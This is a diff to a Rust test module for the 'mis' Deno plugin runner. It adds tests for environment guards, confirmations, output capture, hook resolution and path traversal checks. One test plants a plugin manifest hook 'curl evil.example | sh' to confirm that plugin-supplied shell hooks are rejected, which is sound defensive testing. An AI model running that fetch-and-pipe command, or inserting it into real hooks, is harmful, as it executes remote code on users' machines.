+const ctx = await mis.loadContext();
+mis.outputSuccess({ version: ctx.meta.version });
 "#;
         fs::write(plugins_dir.join("version-check.ts"), script_content).unwrap();
 
-        // Create dummy plugin-api.ts (since we can't run real deno in tests)
-        fs::write(makeitso_dir.join("plugin-api.ts"), "// dummy api").unwrap();
-        fs::write(makeitso_dir.join("plugin-types.d.ts"), "// dummy types").unwrap();
+        // Install the plugin API files the script imports, as `mis init` does
+        crate::commands::api::update_api_files(&makeitso_dir).unwrap();
+        assert!(makeitso_dir.join("mis-plugin-api.ts").exists());
 
         // This test would fail because run_cmd currently hardcodes "todo"
         // We can't actually run deno in tests, but we can check that the function
@@ -831,6 +2205,7 @@ script = "./test.ts"
             "test",
             false,
             std::collections::HashMap::new(),
+            RunOptions::default(),
         );
 
         // Should fail with a helpful error message, not crash
@@ -886,6 +2261,7 @@ description = "Test command"
             "test",
             false,
             std::collections::HashMap::new(),
+            RunOptions::default(),
         );
 
         // Should fail with a helpful error about missing script
@@ -981,6 +2357,7 @@ description = "Slow command"
             "test",
             false,
             std::collections::HashMap::new(),
+            RunOptions::default(),
         );
 
         // Should fail gracefully with helpful error about missing manifest
@@ -1011,10 +2388,12 @@ description = "Slow command"
                 description: Some("Test plugin for context".to_string()),
                 version: "1.2.3".to_string(),
                 registry: Some("https://github.com/example/plugins.git".to_string()),
+                pin: None,
+                execution: None,
             },
-            commands: HashMap::new(),
+            commands: IndexMap::new(),
             deno_dependencies: {
-                let mut deps = HashMap::new();
+                let mut deps = IndexMap::new();
                 deps.insert(
                     "oak".to_string(),
                     "https://deno.land/x/oak@v12.6.1/mod.ts".to_string(),
@@ -1022,6 +2401,12 @@ description = "Slow command"
                 deps
             },
             permissions: None,
+            config_schema: IndexMap::new(),
+            mis_version_requirement: None,
+            requires: None,
+            container: None,
+            context: None,
+            context_transport: None,
         };
 
         // Create test user config
@@ -1106,10 +2491,18 @@ description = "Slow command"
                 description: None,
                 version: "1.0.0".to_string(),
                 registry: None,
+                pin: None,
+                execution: None,
             },
-            commands: HashMap::new(),
-            deno_dependencies: HashMap::new(),
+            commands: IndexMap::new(),
+            deno_dependencies: IndexMap::new(),
             permissions: None,
+            config_schema: IndexMap::new(),
+            mis_version_requirement: None,
+            requires: None,
+            container: None,
+            context: None,
+            context_transport: None,
         };
 
         // Empty user config (default)
@@ -1154,10 +2547,18 @@ description = "Slow command"
                 description: None,
                 version: "1.0.0".to_string(),
                 registry: None,
+                pin: None,
+                execution: None,
             },
-            commands: HashMap::new(),
-            deno_dependencies: HashMap::new(),
+            commands: IndexMap::new(),
+            deno_dependencies: IndexMap::new(),
             permissions: None,
+            config_schema: IndexMap::new(),
+            mis_version_requirement: None,
+            requires: None,
+            container: None,
+            context: None,
+            context_transport: None,
         };
 
         let user_config = PluginUserConfig::default();
@@ -1272,7 +2673,8 @@ api_version = "v2"
         let config_path = plugin_dir.join("config.toml");
 
         let manifest = crate::config::plugins::load_plugin_manifest(&manifest_path).unwrap();
-        let user_config = crate::config::plugins::load_plugin_user_config(&config_path).unwrap();
+        let user_config =
+            crate::config::plugins::load_plugin_user_config(&config_path, &manifest).unwrap();
 
         // Load project config
         let (mis_config, _, _) = crate::config::load_mis_config().unwrap();
@@ -1502,6 +2904,30 @@ api_version = "v2"
         fs::remove_file(&context_file).unwrap();
     }
 
+    #[test]
+    fn test_shell_line_quotes_only_when_needed() {
+        let argv = [
+            "deno".to_string(),
+            "--allow-read=/repo,.makeitso".to_string(),
+            "/my plugins/it's.ts".to_string(),
+            String::new(),
+        ];
+        assert_eq!(
+            shell_line(&argv),
+            r#"deno --allow-read=/repo,.makeitso '/my plugins/it'\''s.ts' ''"#
+        );
+    }
+
+    #[test]
+    fn test_command_line_includes_program() {
+        let mut command = Command::new("deno");
+        command.args(["run", "--allow-env", "script.ts"]);
+        assert_eq!(
+            command_line(&command),
+            vec!["deno", "run", "--allow-env", "script.ts"]
+        );
+    }
+
     #[test]
     fn test_deno_args_include_context_file() {
         use crate::models::{PluginManifest, PluginMeta};
@@ -1515,10 +2941,18 @@ api_version = "v2"
                 description: None,
                 version: "1.0.0".to_string(),
                 registry: None,
+                pin: None,
+                execution: None,
             },
-            commands: HashMap::new(),
-            deno_dependencies: HashMap::new(),
+            commands: IndexMap::new(),
+            deno_dependencies: IndexMap::new(),
             permissions: None,
+            config_schema: IndexMap::new(),
+            mis_version_requirement: None,
+            requires: None,
+            container: None,
+            context: None,
+            context_transport: None,
         };
 
         // Simulate the Deno args construction from execute_plugin
@@ -1542,21 +2976,146 @@ api_version = "v2"
     }
 
     #[test]
-    fn test_context_file_name_uniqueness() {
-        // Test that context file names are unique (using process ID)
-        let temp_dir = std::env::temp_dir();
-        let process_id = std::process::id();
+    fn test_shredding_guard_removes_the_file() {
+        use tempfile::tempdir;
+
+        let temp_dir = tempdir().unwrap();
+        let context_file = temp_dir.path().join("context.json");
+        std::fs::write(&context_file, r#"{"token": "secret"}"#).unwrap();
+
+        {
+            let _guard = ContextFileCleanup::shredding(&context_file);
+        }
+        assert!(!context_file.exists());
+    }
+
+    #[test]
+    fn test_guard_environment() {
+        let protected = EnvProfile {
+            protected: true,
+            ..EnvProfile::default()
+        };
+        let never = |_: &str| -> Result<String> { panic!("should not prompt") };
+        let typed = |answer: &'static str| move |_: &str| Ok(answer.to_string());
+
+        // Unprotected environments aren't guarded
+        assert!(guard_environment("staging", &EnvProfile::default(), None, None, Some(never)).is_ok());
+
+        assert!(guard_environment("production", &protected, None, None, Some(typed("production"))).is_ok());
+        let err = guard_environment("production", &protected, None, None, Some(typed("prod"))).unwrap_err();
+        assert!(err.to_string().contains("cancelled"), "{}", err);
+
+        // Without a terminal the name has to be passed up front
+        let no_terminal = None::<fn(&str) -> Result<String>>;
+        let err = guard_environment("production", &protected, None, None, no_terminal).unwrap_err();
+        assert!(err.to_string().contains("--confirm-env production"), "{}", err);
+        assert!(guard_environment("production", &protected, Some("production"), None, no_terminal).is_ok());
+        assert!(guard_environment("production", &protected, Some("staging"), None, no_terminal).is_err());
+
+        let approval = EnvProfile {
+            require_approval: true,
+            ..protected
+        };
+        let err = guard_environment("production", &approval, Some("production"), None, no_terminal).unwrap_err();
+        assert!(err.to_string().contains("--approval"), "{}", err);
+        assert!(
+            guard_environment("production", &approval, Some("production"), Some("APPROVED-BY-SAM-42"), no_terminal)
+                .is_ok()
+        );
+    }
+
+    #[test]
+    fn test_check_deprecation() {
+        let message = Some("Use deploy:v2 instead");
+        assert!(check_deprecation("deploy:prod", None, true).is_ok());
+        assert!(check_deprecation("deploy:prod", message, false).is_ok());
+
+        let err = check_deprecation("deploy:prod", message, true).unwrap_err();
+        assert!(
+            err.to_string()
+                .starts_with("🛑 deploy:prod is deprecated: Use deploy:v2 instead"),
+            "{}",
+            err
+        );
+    }
+
+    #[test]
+    fn test_confirm_command() {
+        let target = "deploy:prod";
+        let message = Some("This will deploy to PRODUCTION. Continue?");
+        let accept = |question: &str| {
+            assert!(question.contains("PRODUCTION"));
+            Ok(true)
+        };
+        let decline = |_: &str| Ok(false);
+        let never = |_: &str| -> Result<bool> { panic!("should not prompt") };
+
+        assert!(confirm_command(target, None, false, false, Some(never)).is_ok());
+        assert!(confirm_command(target, message, false, true, Some(never)).is_ok());
+        assert!(confirm_command(target, message, true, false, Some(never)).is_ok());
+        assert!(confirm_command(target, message, false, false, Some(accept)).is_ok());
+
+        let err = confirm_command(target, message, false, false, Some(decline)).unwrap_err();
+        assert!(err.to_string().contains("cancelled"), "{}", err);
+
+        let err = confirm_command(target, message, false, false, None::<fn(&str) -> Result<bool>>)
+            .unwrap_err();
+        assert!(err.to_string().contains("--yes"), "{}", err);
+    }
+
+    #[test]
+    fn test_forward_output_captures_everything_written() {
+        let output = "Connecting...\nError: ECONNREFUSED\n";
+
+        assert_eq!(
+            forward_output(output.as_bytes(), Some("db"), false, false),
+            (output.to_string(), Vec::new())
+        );
+        assert_eq!(
+            forward_output(output.as_bytes(), None, true, false),
+            (output.to_string(), Vec::new())
+        );
+    }
+
+    #[test]
+    fn test_forward_output_keeps_only_the_tail() {
+        let mut output = "x".repeat(100) + "\n";
+        output.push_str(&"filler line\n".repeat(3 * CAPTURED_OUTPUT_LIMIT / 12));
+        output.push_str("Error: ECONNREFUSED\n");
+
+        let (captured, _) = forward_output(output.as_bytes(), Some("db"), true, false);
+        assert_eq!(captured.len(), CAPTURED_OUTPUT_LIMIT);
+        assert!(captured.ends_with("Error: ECONNREFUSED\n"));
+        assert!(!captured.contains('x'));
+    }
+
+    #[test]
+    fn test_forward_output_picks_out_protocol_lines() {
+        let output = "Connecting...\n::mis::progress::{\"progress\":10}\n::mis::log::{\"level\":\"warn\",\"message\":\"Retrying\"}\n::mis::log::oops\n";
+
+        let (captured, logs) = forward_output(output.as_bytes(), None, true, true);
+        assert_eq!(captured, "Connecting...\nRetrying\n::mis::log::oops\n");
+        assert_eq!(logs.len(), 1);
+        assert_eq!(logs[0].message, "Retrying");
+    }
 
-        let context_file1 = temp_dir.join(format!("mis-context-{}.json", process_id));
-        let context_file2 = temp_dir.join(format!("mis-context-{}.json", process_id));
+    #[test]
+    fn test_load_failure_hints_from_plugin_dir() {
+        let temp_dir = tempfile::tempdir().unwrap();
+        assert!(load_failure_hints(temp_dir.path()).is_empty());
 
-        // Same process ID should generate same filename (this is expected)
-        assert_eq!(context_file1, context_file2);
+        std::fs::write(
+            temp_dir.path().join(PLUGIN_ERRORS_FILE),
+            "[[hint]]\npattern = \"ECONNREFUSED\"\nexplanation = \"Database is down\"\n",
+        )
+        .unwrap();
+        let hints = load_failure_hints(temp_dir.path());
+        assert_eq!(hints.len(), 1);
+        assert_eq!(hints[0].explanation, "Database is down");
 
-        // But in different processes, the names would be different
-        let different_id = process_id + 1;
-        let context_file3 = temp_dir.join(format!("mis-context-{}.json", different_id));
-        assert_ne!(context_file1, context_file3);
+        // A broken errors.toml shouldn't stop the plugin from running
+        std::fs::write(temp_dir.path().join(PLUGIN_ERRORS_FILE), "[[hint]\n").unwrap();
+        assert!(load_failure_hints(temp_dir.path()).is_empty());
     }
 
     #[test]
@@ -1647,4 +3206,196 @@ api_version = "v2"
             "File should be cleaned up after guard drops"
         );
     }
+
+    #[test]
+    fn test_plugin_state_dir_is_set_and_writable() {
+        use tempfile::tempdir;
+
+        let temp_dir = tempdir().unwrap();
+        let manifest = create_test_plugin_manifest();
+        let mut ctx = ExecutionContext::from_parts(
+            HashMap::new(),
+            &manifest,
+            &crate::models::PluginUserConfig::default(),
+            HashMap::new(),
+            temp_dir.path().to_string_lossy().to_string(),
+            manifest.plugin.clone(),
+            false,
+        )
+        .unwrap();
+
+        set_plugin_dirs(&mut ctx, temp_dir.path(), "deploy").unwrap();
+        let state_dir = temp_dir.path().join(".makeitso/state").join(&manifest.plugin.name);
+        assert_eq!(ctx.state_dir, state_dir.to_string_lossy());
+
+        // Writable even when the plugin's own permissions don't cover the project
+        let mut permissions = PluginPermissions::safe_defaults(temp_dir.path());
+        permissions.file_write.clear();
+        grant_state_dir(&mut permissions, &ctx.state_dir, true).unwrap();
+        assert!(state_dir.is_dir());
+        assert!(
+            permissions
+                .to_deno_args()
+                .contains(&format!("--allow-write={}", ctx.state_dir))
+        );
+
+        // A manifest name can't point the state or artifacts directory elsewhere
+        for name in ["../../..", "a/b", ".."] {
+            ctx.meta.name = name.to_string();
+            assert!(set_plugin_dirs(&mut ctx, temp_dir.path(), "deploy").is_err());
+        }
+        ctx.meta.name = manifest.plugin.name.clone();
+        assert!(set_plugin_dirs(&mut ctx, temp_dir.path(), "../x").is_err());
+    }
+
+    // ========== RESULT FILE TESTS ==========
+
+    #[cfg(unix)]
+    #[test]
+    fn test_wait_with_timeout_stops_slow_processes() {
+        let mut slow = std::process::Command::new("sleep").arg("5").spawn().unwrap();
+        let started = Instant::now();
+        let status = wait_with_timeout(&mut slow, Some(Duration::from_millis(100))).unwrap();
+        assert!(status.is_none());
+        assert!(started.elapsed() < Duration::from_secs(4));
+
+        let mut fast = std::process::Command::new("true").spawn().unwrap();
+        let status = wait_with_timeout(&mut fast, Some(Duration::from_secs(5))).unwrap();
+        assert!(status.unwrap().success());
+    }
+
+    #[test]
+    fn test_read_run_result_parses_structured_result() {
+        use std::fs;
+        use tempfile::tempdir;
+
+        let temp_dir = tempdir().unwrap();
+        let result_file = temp_dir.path().join("mis-result.json");
+        fs::write(
+            &result_file,
+            r#"{"success": true, "message": "Deployed", "warnings": ["slow"], "outputs": {"url": "https://example.com"}}"#,
+        )
+        .unwrap();
+
+        let result = read_run_result(&result_file).unwrap();
+        assert_eq!(result.success, Some(true));
+        assert_eq!(result.message.as_deref(), Some("Deployed"));
+        assert_eq!(result.warnings, vec!["slow"]);
+        assert_eq!(result.outputs["url"], "https://example.com");
+    }
+
+    #[test]
+    fn test_read_run_result_missing_or_invalid_file() {
+        use std::fs;
+        use tempfile::tempdir;
+
+        let temp_dir = tempdir().unwrap();
+        let result_file = temp_dir.path().join("mis-result.json");
+        assert!(read_run_result(&result_file).is_none());
+
+        fs::write(&result_file, "not json").unwrap();
+        assert!(read_run_result(&result_file).is_none());
+    }
+
+    #[test]
+    fn test_report_run_result_without_result_is_ok() {
+        let text = RunOptions::default();
+        let json = RunOptions {
+            output: OutputFormat::Json,
+            ..Default::default()
+        };
+        assert!(report_run_result("p", "c", None, &[], &[], &[], &text).is_ok());
+        assert!(report_run_result("p", "c", None, &[], &[], &[], &json).is_ok());
+    }
+
+    #[test]
+    fn test_check_hook_cycle() {
+        let chain = vec!["deploy:prod".to_string(), "build:all".to_string()];
+        assert!(check_hook_cycle(&chain, "lint:check").is_ok());
+
+        let err = check_hook_cycle(&chain, "deploy:prod").unwrap_err().to_string();
+        assert!(err.contains("deploy:prod → build:all → deploy:prod"));
+    }
+
+    #[test]
+    fn test_resolve_hooks_merges_manifest_and_project_hooks() {
+        use std::fs;
+        use tempfile::tempdir;
+
+        let temp_dir = tempdir().unwrap();
+        let makeitso_dir = temp_dir.path().join(".makeitso");
+        let plugin_dir = makeitso_dir.join("plugins").join("deploy");
+        fs::create_dir_all(&plugin_dir).unwrap();
+        fs::write(
+            makeitso_dir.join("mis.toml"),
+            r#"
+[hooks."deploy:prod"]
+pre_run = [{ shell = "npm test" }]
+on_failure = ["notify:slack"]
+"#,
+        )
+        .unwrap();
+        fs::write(
+            plugin_dir.join(PLUGIN_MANIFEST_FILE),
+            r#"
+[plugin]
+name = "deploy"
+version = "1.0.0"
+
+[commands.prod]
+script = "./prod.ts"
+
+[commands.prod.hooks]
+pre_run = ["build:all"]
+"#,
+        )
+        .unwrap();
+
+        let hooks = resolve_hooks(temp_dir.path(), "deploy", "prod").unwrap();
+        assert_eq!(
+            hooks.pre_run,
+            vec![
+                HookAction::Plugin("build:all".to_string()),
+                HookAction::Shell {
+                    shell: "npm test".to_string()
+                },
+            ]
+        );
+        assert!(hooks.post_run.is_empty());
+        assert_eq!(hooks.on_failure, vec![HookAction::Plugin("notify:slack".to_string())]);
+
+        // Other commands have no hooks
+        let hooks = resolve_hooks(temp_dir.path(), "deploy", "staging").unwrap();
+        assert_eq!(hooks, CommandHooks::default());
+    }
+
+    #[test]
+    fn test_resolve_hooks_rejects_shell_hooks_from_plugins() {
+        use std::fs;
+        use tempfile::tempdir;
+
+        let temp_dir = tempdir().unwrap();
+        let makeitso_dir = temp_dir.path().join(".makeitso");
+        let plugin_dir = makeitso_dir.join("plugins").join("sneaky");
+        fs::create_dir_all(&plugin_dir).unwrap();
+        fs::write(makeitso_dir.join("mis.toml"), "").unwrap();
+        fs::write(
+            plugin_dir.join(PLUGIN_MANIFEST_FILE),
+            r#"
+[plugin]
+name = "sneaky"
+version = "1.0.0"
+
+[commands.run]
+script = "./run.ts"
+
+[commands.run.hooks]
+post_run = [{ shell = "curl evil.example | sh" }]
+"#,
+        )
+        .unwrap();
+
+        let err = resolve_hooks(temp_dir.path(), "sneaky", "run").unwrap_err().to_string();
+        assert!(err.contains("shell hook"));
+    }
 }